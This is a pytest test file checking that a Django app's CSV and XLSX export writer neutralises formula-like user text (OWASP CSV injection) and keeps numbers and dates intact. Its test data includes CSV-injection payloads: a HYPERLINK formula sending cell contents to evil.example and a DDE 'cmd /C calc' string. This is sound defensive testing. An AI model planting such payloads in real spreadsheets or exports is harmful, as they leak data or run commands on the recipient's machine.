"""The shared table writer (lin_platform.exports): what people typed never becomes a formula
in the coordinator's CSV or XLSX (OWASP "CSV injection"), and numbers and dates stay what
they are."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.utils import translation
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from lin_platform.exports import Sheet, table_response

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")'
# Each prefix OWASP names, with a text behind it a spreadsheet would run or evaluate.
DANGEROUS = [
    HYPERLINK,
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
]


def _csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def _workbook(response):
    return load_workbook(io.BytesIO(response.content))


def _sheet(rows, headers=("name",)):
    return [Sheet("Aanwezigheid", list(headers), rows)]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_csv_text_that_looks_like_a_formula_gets_a_quote_in_front(text):
    response = table_response(fmt="csv", filename="x", sheets=_sheet([[text, "Jan"]]))
    assert _csv_rows(response)[1] == ["'" + text, "Jan"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_an_xlsx_text_that_looks_like_a_formula_stays_a_text(text):
    response = table_response(fmt="xlsx", filename="x", sheets=_sheet([[text, "Jan"]]))
    cell, neighbour = _workbook(response).active[2]
    # XML reads a carriage return back as a line feed; the text is the same otherwise.
    read_back = text.replace("\r", "\n")
    assert (cell.value, cell.data_type, cell.quotePrefix) == (read_back, "s", True)
    assert (neighbour.value, neighbour.data_type, neighbour.quotePrefix) == ("Jan", "s", False)


def test_no_cell_of_any_sheet_is_a_formula_headers_and_lazy_labels_included():
    sheets = [
        Sheet("Meelopen", ["=kop", gettext_lazy("date")], [[HYPERLINK, date(2026, 3, 2)]]),
        Sheet("Uren", ["domein", "uren"], [["+31 6 12345678", 1.5], ["@home", -2]]),
    ]
    workbook = _workbook(table_response(fmt="xlsx", filename="x", sheets=sheets))
    cells = [cell for page in workbook for row in page.iter_rows() for cell in row]
    assert len(cells) == 10
    assert [cell for cell in cells if cell.data_type == "f"] == []
    assert workbook["Meelopen"]["A1"].value == "=kop"
    assert workbook["Meelopen"]["A1"].font.bold


def test_numbers_decimals_and_dates_stay_numbers_and_dates_in_xlsx():
    row = [-3, 0, -1.25, Decimal("-7.50"), date(2026, 10, 1), datetime(2026, 10, 1, 9, 30)]
    response = table_response(fmt="xlsx", filename="x", sheets=_sheet([row], headers="abcdef"))
    cells = _workbook(response).active[2]
    assert [cell.value for cell in cells] == [
        -3,
        0,
        -1.25,
        -7.5,
        datetime(2026, 10, 1),
        datetime(2026, 10, 1, 9, 30),
    ]
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "n", "d", "d"]
    assert not any(cell.quotePrefix for cell in cells)


@pytest.mark.parametrize(("language", "fraction"), [("nl", "-1,25"), ("en", "-1.25")])
def test_numbers_decimals_and_dates_are_written_plainly_in_csv(language, fraction):
    row = [-3, -1.25, Decimal("-7.5"), date(2026, 10, 1), "gewoon", "", None]
    with translation.override(language):
        response = table_response(fmt="csv", filename="x", sheets=_sheet([row], "abcdefg"))
    assert _csv_rows(response)[1] == [
        "-3",
        fraction,
        fraction.replace("1,25", "7,5").replace("1.25", "7.5"),
        "2026-10-01",
        "gewoon",
        "",
        "",
    ]


def test_a_text_with_a_formula_sign_further_on_is_left_as_it_is():
    texts = ["Jan = Piet", "zorg+welzijn", "a-b", "jan@example.nl", " =1+1"]
    csv_response = table_response(fmt="csv", filename="x", sheets=_sheet([texts], "abcde"))
    assert _csv_rows(csv_response)[1] == texts
    xlsx_response = table_response(fmt="xlsx", filename="x", sheets=_sheet([texts], "abcde"))
    cells = _workbook(xlsx_response).active[2]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        (text, "s", False) for text in texts
    ]
